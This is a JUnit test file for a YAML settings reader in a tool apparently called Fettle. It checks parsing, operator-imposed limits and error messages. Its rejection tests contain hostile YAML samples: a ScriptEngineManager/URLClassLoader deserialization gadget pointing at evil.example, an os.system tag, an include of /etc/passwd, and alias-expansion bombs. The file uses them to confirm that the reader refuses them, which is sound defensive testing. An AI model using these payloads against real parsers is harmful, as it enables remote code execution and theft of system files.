package dev.fettle.app.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.fettle.base.settings.Budgets;
import dev.fettle.base.settings.McpServer;
import dev.fettle.base.settings.Mode;
import dev.fettle.base.settings.RepositorySettings;
import dev.fettle.base.settings.SettingsException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** {@code .github/fettle.yml}: plain values, strictly read, within what the operator allows. */
class RepositoryFileTest {
    private final RepositoryFile reader = new RepositoryFile(RepositorySettings.DEFAULT);

    @Test
    void anEmptyFileLeavesTheServersValues() {
        assertThat(read("")).isEqualTo(RepositorySettings.DEFAULT);
        assertThat(read("# nothing yet\n")).isEqualTo(RepositorySettings.DEFAULT);
    }

    @Test
    void whatIsWrittenCountsAtTheTopOrUnderTheServersName() {
        RepositorySettings settings = read("""
                mode: observe
                max_risk_level: 3
                sources:
                  code_analysis: true
                quality_gates:
                  test_coverage: 0.5
                trigger_label: please-fix   # ours
                protected_paths:
                  - db/**
                  - "*.sql"
                required_gates: coverage
                allowed_bots: ["renovate[bot]"]
                """);

        assertThat(settings.mode()).isEqualTo(Mode.OBSERVE);
        assertThat(settings.maxRiskLevel()).isEqualTo(3);
        assertThat(settings.sources().codeAnalysis()).isTrue();
        assertThat(settings.sources().exceptions()).isTrue();
        assertThat(settings.qualityGates().testCoverage()).isEqualTo(0.5);
        assertThat(settings.triggerLabel()).isEqualTo("please-fix");
        assertThat(settings.protectedPaths()).containsExactly("db/**", "*.sql");
        assertThat(settings.requiredGates()).containsExactly("coverage");
        assertThat(settings.allowedBots()).containsExactly("renovate[bot]");
        assertThat(read("self_improvement:\n  mode: observe\n").mode()).isEqualTo(Mode.OBSERVE);
    }

    @Test
    void serversHaveNamesOfTheirOwn() {
        RepositorySettings settings = read("""
                mode: draft
                mcp_servers:
                  search:
                    probe: {tool: find, arguments: {text: fettle, limit: 3, deep: [true]}, expect: "1 hit"}
                  pages:
                    command: node
                    args: [tools/pages.mjs, 3001]
                    env: {PORT: 3001}
                    url: http://127.0.0.1:3001/mcp
                    optional: true
                """);

        assertThat(settings.mcpServers())
                .containsExactly(
                        new McpServer(
                                "search",
                                "",
                                List.of(),
                                Map.of(),
                                "",
                                false,
                                Optional.of(new McpServer.Probe(
                                        "find", "{\"text\":\"fettle\",\"limit\":3,\"deep\":[true]}", "1 hit"))),
                        new McpServer(
                                "pages",
                                "node",
                                List.of("tools/pages.mjs", "3001"),
                                Map.of("PORT", "3001"),
                                "http://127.0.0.1:3001/mcp",
                                true,
                                Optional.empty()));
    }

    @Test
    void aMistakeInAServerIsSaid() {
        assertThat(catchThrowableOfType(SettingsException.class, () -> read("""
                        mcp_servers:
                          search: {comand: node}
                        """))
                        .getMessage())
                .startsWith(".github/fettle.yml:1: 'mcp_servers' must be a section of servers by name")
                .contains("in which 'search' has an unknown member 'comand'; did you mean 'command'?");
        assertThat(catchThrowableOfType(SettingsException.class, () -> read("mcp_servers: {search: {probe: {}}}\n"))
                        .getMessage())
                .contains("the probe of 'search' names no tool");
        assertThat(catchThrowableOfType(SettingsException.class, () -> read("mcp_servers: [search]\n"))
                        .getMessage())
                .contains("must be a section of servers by name");
    }

    @Test
    void aRepositoryGetsNoMoreThanTheOperatorGives() {
        RepositorySettings server = new RepositorySettings(
                false,
                Mode.DRAFT,
                7,
                5,
                true,
                RepositorySettings.DEFAULT.sources(),
                RepositorySettings.DEFAULT.qualityGates(),
                new Budgets(2, 3, Duration.ofMinutes(20), 30, 500),
                "fettle",
                "fettle:approved",
                List.of("infra/**"),
                List.of("coverage"),
                List.of(),
                false,
                false,
                List.of());

        RepositorySettings settings = new RepositoryFile(server).read(bytes("""
                        enabled: true
                        budgets: {attempts_per_ticket: 9, open_pull_requests: 1, minutes_per_ticket: 200, comments_per_hour: 5}
                        protected_paths: [db/**]
                        required_gates: []
                        """));

        assertThat(settings.enabled()).isFalse();
        assertThat(settings.budgets()).isEqualTo(new Budgets(2, 1, Duration.ofMinutes(20), 5, 500));
        assertThat(settings.protectedPaths()).containsExactly("infra/**", "db/**");
        assertThat(settings.requiredGates()).containsExactly("coverage");
    }

    @Test
    void allMistakesAreSaidAtOnceWithTheirLines() {
        SettingsException mistakes = catchThrowableOfType(SettingsException.class, () -> read("""
                        mode: automatic
                        max_risk_level: 11
                        enabled: maybe
                        max-risk-level: 3
                        protected_paths:
                          nested: {deeper: 1}
                        required_gates: [Coverage]
                        data_dir: /etc
                        mode: draft
                        trigger_label:
                        """));

        assertThat(mistakes.getMessage()).isEqualTo("""
                        .github/fettle.yml:1: 'mode' must be one of observe, suggest, draft, ready, auto, not 'automatic'
                        .github/fettle.yml:2: 'max_risk_level' must be from 1 to 10, not 11
                        .github/fettle.yml:3: 'enabled' must be true or false, not 'maybe'
                        .github/fettle.yml:4: 'max-risk-level' is not a key that Fettle knows; did you mean 'max_risk_level'?
                        .github/fettle.yml:6: 'protected_paths.nested.deeper' is not a key that Fettle knows
                        .github/fettle.yml:7: 'required_gates' must be a list, each of which must be a gate's id, such as coverage or mcp-doctor, not a list
                        .github/fettle.yml:8: 'data_dir' is not a key that Fettle knows
                        .github/fettle.yml:9: 'mode' stands here a second time (first on line 1)
                        .github/fettle.yml:10: 'trigger_label' must be a text of one line, 1 to 50 characters, not nothing""".stripIndent());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c]\n",
                "mode: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://localhost/\"]]]]\n",
                "mode: !mine draft\n",
                "mode: draft\n---\nmode: auto\n",
                "- a\n- b\n",
                "just text\n",
                "mode: [unclosed\n",
                "\tmode: draft\n",
                "? [complex, key]\n: value\n",
                "<<: {mode: auto}\n",
                "mode: \"\\x00\"\n",
                "%YAML 9.9\n---\nmode: draft\n",
                "\u0000\u0001\u0002"
            })
    void bombsTagsAndRubbishAreRefusedInWords(String yaml) {
        assertThatThrownBy(() -> read(yaml))
                .isInstanceOf(SettingsException.class)
                .hasMessageStartingWith(".github/fettle.yml");
    }

    @Test
    void whatIsNoYamlIsSaidWithItsLineAndWhatIsWrongThere() {
        assertThatThrownBy(() -> read("mode: draft\n\tmax_risk_level: 3\n"))
                .hasMessageContaining(".github/fettle.yml:2: cannot be read: ")
                .hasMessageContaining("found character '\\t(TAB)' that cannot start any token");
        assertThatThrownBy(() -> read("mode: draft\nsources:\n  exceptions: true\n- a\n"))
                .hasMessageContaining(".github/fettle.yml:4: cannot be read: ")
                .hasMessageContaining("expected <block end>");
    }

    @Test
    void deepNestsAndBigFilesAreRefusedAtOnce() {
        assertThatThrownBy(() -> read("a: " + "[".repeat(100_000)))
                .isInstanceOf(SettingsException.class)
                .hasMessageContaining("cannot be read");
        assertThatThrownBy(() -> read("{".repeat(5_000))).isInstanceOf(SettingsException.class);
        assertThatThrownBy(() -> read("#" + "x".repeat(10_000_000)))
                .isInstanceOf(SettingsException.class)
                .hasMessageContaining("at most 256 KB are read");
    }

    /** A tag would make an object, an alias would multiply what it stands for. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "mode: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example/\"]]",
                "trigger_label: !!python/object/apply:os.system [id]",
                "trigger_label: !include /etc/passwd",
                "protected_paths: &a [x, x]\nrequired_gates: *a",
                "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: &d [*c,*c]\nmode: *d",
                "mode: draft\nmode: auto",
                "mode: draft\n---\nmode: auto",
                "<<: {mode: auto}",
            })
    void tricksOfYamlAreMistakes(String yaml) {
        assertThatThrownBy(() -> read(yaml)).isInstanceOf(SettingsException.class);
    }

    private RepositorySettings read(String yaml) {
        return reader.read(bytes(yaml));
    }

    private static byte[] bytes(String yaml) {
        return yaml.getBytes(StandardCharsets.UTF_8);
    }
}
